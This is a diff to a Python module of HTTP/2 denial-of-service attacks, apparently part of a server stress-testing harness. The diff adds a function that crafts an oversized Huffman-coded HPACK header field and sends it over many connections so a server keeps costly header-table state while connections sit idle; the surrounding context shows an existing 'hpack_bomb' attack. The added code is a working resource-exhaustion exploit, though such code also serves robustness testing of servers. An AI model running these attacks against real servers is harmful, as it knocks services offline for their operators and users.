@@ -1,5 +1,6 @@
 """HTTP/2: frames that cost the sender nothing."""
 
+import contextlib
 import struct
 import time
 
@@ -79,6 +80,35 @@ def hpack_bomb(target):
             h2.send(bomb(1) if ended % 2 else b''.join(frame(HEADERS, END_STREAM | END_HEADERS, s, cookies) for s in range(1, 200, 2)))
             ended += not h2.pump(0.5)
     return f'{ended} connections ended'
+
+
+def sleepers(target, peers, block, long_one):
+    for h2 in peers:
+        h2.send(window(0, 1 << 20) + h2.head(1, '/metrics') + h2.head(3, '/openapi.json'))
+    for h2 in peers:
+        while h2.alive and not {1, 3} <= h2.closed_streams and not target.over():
+            h2.pump(0.1)
+        h2.send(frame(HEADERS, END_STREAM | END_HEADERS, 5, block + long_one))
+    time.sleep(3)  # the server looks for idle ones once a second
+    for h2 in peers[::2]:
+        h2.send(frame(HEADERS, END_STREAM | END_HEADERS, 7, block + b'\xbe'))
+    return sum(h2.pump(0.1) for h2 in peers)
+
+
+@attack(quick=6)
+def field_of_a_sleeper(target):
+    """A field whose Huffman code is as long as a frame, behind an answer of larger frames: it stays in the table while its connection is
+    idle, and is then asked for again, or forgotten with the connection."""
+    block = b''.join(field(n, v) for n, v in ((':method', 'GET'), (':scheme', 'http'), (':path', '/v2'), (':authority', 'a')))
+    code = b'\xff\xff\xff\xef\xff\xff\xfe' * 1225  # 2,450 times 0xf9, 28 bits each
+    length = len(code) - 127
+    long_one = b'\x40\x05x-big\xff' + bytes([0x80 | length & 0x7f, length >> 7]) + code
+    kept = 0
+    while not target.over():
+        with contextlib.ExitStack() as stack:
+            kept += sleepers(target, [stack.enter_context(H2(target, (5, 1 << 16), (4, 1 << 20), wait=5)) for _ in range(target.size(50, 10))],
+                             block, long_one)
+    return f'{kept} connections still open at the end of a round'
 
 
 @attack(seconds=30, quick=3)
